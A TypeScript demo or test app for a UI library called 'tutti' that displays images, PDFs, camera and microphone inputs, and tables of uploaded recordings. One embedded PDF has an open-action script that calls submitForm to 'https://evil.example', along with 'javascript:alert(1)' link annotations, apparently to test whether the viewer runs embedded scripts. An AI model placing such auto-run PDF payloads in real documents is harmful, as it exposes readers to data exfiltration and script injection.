import { app, column } from "tutti";

const square = (colour: string): string => `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 30" width="400" height="300"><rect width="40" height="30" fill="${colour}"/></svg>`;

/** Two pages of words, and a script that would run when the document is opened. */
const PAPER = ["%PDF-1.4",
  "1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\('ran'\\); this.submitForm\\('https://evil.example'\\);) >> >> endobj",
  "2 0 obj << /Type /Pages /Count 2 /Kids [4 0 R 6 0 R] >> endobj", "3 0 obj << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> endobj",
  ...["First words", "Second words"].flatMap((words, n) => {
    const body = `BT /F1 24 Tf 40 200 Td (${words}) Tj ET`;
    return [
      `${4 + n * 2} 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] /Contents ${5 + n * 2} 0 R /Resources << /Font << /F1 3 0 R >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 400 300] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>] >> endobj`,
      `${5 + n * 2} 0 obj << /Length ${body.length} >> stream\n${body}\nendstream endobj`,
    ];
  }),
  "trailer << /Root 1 0 R >>", "%%EOF"].join("\n");

/** A page whose letters are named by a table of Chinese letters that the document does not bring along. */
const LETTER = ["%PDF-1.4", "1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj", "2 0 obj << /Type /Pages /Count 1 /Kids [4 0 R] >> endobj",
  "3 0 obj << /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /UniGB-UCS2-H /DescendantFonts [6 0 R] >> endobj",
  "4 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 400 100] /Contents 5 0 R /Resources << /Font << /F1 3 0 R >> >> >> endobj",
  "5 0 obj << /Length 38 >> stream\nBT /F1 24 Tf 40 40 Td <4F60597D> Tj ET\nendstream endobj",
  "6 0 obj << /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 4 >> /FontDescriptor 7 0 R /DW 1000 >> endobj",
  "7 0 obj << /Type /FontDescriptor /FontName /STSong-Light /Flags 6 /FontBBox [-25 -254 1000 880] /ItalicAngle 0 /Ascent 880 /Descent -120 /CapHeight 880 /StemV 93 >> endobj",
  "trailer << /Root 1 0 R >>", "%%EOF"].join("\n");

/** Pictures to enlarge, documents to read, a camera and a microphone, and a table of recordings. */
export default app("Media", (ui) => {
  ui.title("Media");
  ui.image([square("#c2410c"), square("#087683"), square("#3f7d20")], { alt: ["Red", "Blue", "Green"], caption: ["The red one", "The blue one", "The green one"], width: 120, zoom: true });
  ui.pdf(new TextEncoder().encode(PAPER), { label: "Paper", height: 320 });
  ui.pdf(new TextEncoder().encode("%PDF-1.4 and nothing that follows"), { label: "Broken", height: 120 });
  ui.pdf(new TextEncoder().encode(LETTER), { label: "Letter", height: 120 });
  const photo = ui.cameraInput("Camera", { shared: true });
  ui.metric("Photo", photo ? `${photo.type}, ${photo.size > 1_000 ? "large" : "small"}` : "none");
  ui.private((mine) => {
    const voice = mine.audioInput("Microphone", { key: "voice" });
    mine.metric("Voice", voice ? voice.type : "none");
  });
  const takes = ui.fileUpload("Takes", { many: true });
  ui.dataframe(takes.map(({ name, url, type }) => ({ name, sound: type.startsWith("audio") ? url : null, film: type.startsWith("video") ? url : null })), {
    label: "Recordings", hideIndex: true, columns: { sound: column.audio({ label: "Sound", alt: "name" }), film: column.video({ label: "Film", alt: "name" }) },
  });
  ui.table(takes.map(({ name, url }) => ({ name, file: url, note: `[${name}](https://example.org)`, sound: url })), {
    caption: "To read", columns: { file: column.link({ text: "Save" }), note: column.markdown(), sound: column.audio({ alt: "name" }) },
  });
});
